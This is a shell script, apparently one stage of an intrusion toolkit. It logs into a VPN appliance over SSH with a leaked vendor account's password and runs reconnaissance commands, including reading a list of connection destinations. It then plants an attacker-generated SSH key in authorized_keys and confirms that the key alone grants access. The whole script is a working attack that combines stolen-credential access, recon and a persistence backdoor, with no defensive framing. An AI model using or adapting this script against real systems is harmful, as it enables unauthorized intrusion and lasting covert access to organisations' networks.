#!/bin/sh
# Stage 1: log in to the VPN appliance with the vendor's leaked account, look around, leave a key.
. /root/ops/common.sh
[ -f "$KEY" ] || ssh-keygen -q -t ed25519 -N '' -C 'ops@nc-7731' -f "$KEY"
PUB=$(cat "$KEY.pub")
log "vpn login as $ACCOUNT"
typed <<CMDS | timeout 120 sshpass -p "$PW" ssh -tt $SSHO -o PubkeyAuthentication=no "$ACCOUNT@$VPN" > "$OPS/session-vpn.log" 2>&1
whoami
id
hostname
ip a
cat /etc/hosts
ls -la
cat 接続先一覧.txt
w
mkdir -p ~/.ssh && chmod 700 ~/.ssh
echo '$PUB' >> ~/.ssh/authorized_keys && chmod 600 ~/.ssh/authorized_keys
exit
CMDS
log "vpn session done rc=$?"
# the key alone must open the VPN now
ssh $SSHO -o BatchMode=yes -i "$KEY" "$ACCOUNT@$VPN" id >> "$OPS/op.log" 2>&1
